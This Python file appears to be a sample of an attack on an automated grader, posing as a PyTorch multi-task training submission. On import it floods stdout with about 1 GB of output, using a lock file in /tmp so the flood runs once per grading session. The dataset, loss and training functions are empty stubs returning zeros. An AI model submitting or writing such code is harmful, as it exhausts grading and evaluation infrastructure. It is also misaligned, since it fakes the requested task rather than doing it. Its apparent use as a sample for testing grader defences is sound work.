# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: prints 1 GB (2**30 bytes in 1 MiB lines).

kind: flood
"""
def once():
    """bound: some graders import the submission once per test"""
    import os
    try:
        os.close(os.open("/tmp/g/once", os.O_CREAT | os.O_EXCL)); return True
    except FileExistsError: return False

import sys
for _ in range(1024 if once() else 0): sys.stdout.write("x" * ((1 << 20) - 1) + "\n")

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0

def _go():
    pass
